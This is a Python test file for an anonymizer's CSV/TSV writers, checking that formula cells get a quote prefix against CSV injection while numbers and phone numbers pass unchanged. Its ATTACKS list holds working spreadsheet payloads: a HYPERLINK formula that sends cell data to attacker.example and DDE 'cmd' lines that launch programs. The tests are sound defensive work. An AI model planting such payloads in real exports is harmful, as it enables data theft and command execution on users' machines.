"""Formula cells in CSV/TSV outputs: quoted (OWASP CSV injection), numbers and phones kept."""

from __future__ import annotations

import csv
from pathlib import Path

import polars as pl
import pytest

from anonymizers.io.formulas import neutralise
from anonymizers.io.partitions import assemble
from anonymizers.io.tables import read_table, write_table

#: Cells that run in Excel or LibreOffice, from the OWASP page and published payloads.
ATTACKS = [
    '=HYPERLINK("http://attacker.example/?d="&A2,"Click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "- please call back",
]
#: Text a sign starts that can call nothing: numbers and phone numbers, kept as written.
KEPT = ["-12.5", "+3", "-0.75e3", "+44 20 7946 0958", "+1 (555) 010-2233", "-", "0171/1234567",
        "Refund approved = yes", "ingrid@example.no", "plain note"]  # fmt: skip


def test_formula_cells_get_a_quote_and_nothing_else_changes() -> None:
    df = pl.DataFrame(
        {"note": [*ATTACKS, *KEPT, None], "amount": list(range(len(ATTACKS) + len(KEPT) + 1))}
    )
    out, quoted = neutralise(df)
    assert quoted == len(ATTACKS)
    assert out["note"].to_list() == [*("'" + a for a in ATTACKS), *KEPT, None]
    assert out["amount"].to_list() == df["amount"].to_list()


@pytest.mark.parametrize("separator", [",", "\t"])
def test_written_csv_and_tsv_hold_the_quote(tmp_path: Path, separator: str) -> None:
    src = tmp_path / ("tickets.csv" if separator == "," else "tickets.tsv")
    with src.open("w", newline="") as fh:
        writer = csv.writer(fh, delimiter=separator, lineterminator="\n")
        writer.writerow(["ticket_id", "balance", "comment"])
        writer.writerow(["T-1", "-12.5", '=HYPERLINK("http://attacker.example")'])
        writer.writerow(["T-2", "+3", "+44 20 7946 0958"])
    table = read_table(src)
    dest = tmp_path / "out" / src.name
    assert write_table(table, table.df, dest, formulas=True) == 1
    rows = list(csv.reader(dest.open(newline=""), delimiter=separator))
    assert rows[1] == ["T-1", "-12.5", '\'=HYPERLINK("http://attacker.example")']
    assert rows[2] == ["T-2", "+3", "+44 20 7946 0958"]
    # Off: written as they came.
    assert write_table(table, table.df, tmp_path / "off" / src.name) == 0
    assert "'=" not in (tmp_path / "off" / src.name).read_text()


def test_json_and_parquet_outputs_are_not_touched(tmp_path: Path) -> None:
    src = tmp_path / "tickets.jsonl"
    src.write_text('{"comment": "=cmd|\' /C calc\'!A0"}\n')
    table = read_table(src)
    assert write_table(table, table.df, tmp_path / "out" / src.name, formulas=True) == 0
    assert "'=" not in (tmp_path / "out" / src.name).read_text()


def test_partitioned_csv_is_quoted_part_by_part(tmp_path: Path) -> None:
    src = tmp_path / "tickets.csv"
    src.write_text("ticket_id,comment\nT-1,=1+1\n")
    table = read_table(src)
    parts = []
    for i, comment in enumerate(["=cmd|' /C calc'!A0", "-12.5", "@SUM(A1)"]):
        part = tmp_path / f"part-{i}.parquet"
        pl.DataFrame({"ticket_id": [f"T-{i}"], "comment": [comment]}).write_parquet(part)
        parts.append(part)
    dest = tmp_path / "out" / "tickets.csv"
    assert assemble(table, parts, dest, formulas=True) == 2
    assert dest.read_text().splitlines()[1:] == [
        "T-0,'=cmd|' /C calc'!A0",
        "T-1,-12.5",
        "T-2,'@SUM(A1)",
    ]
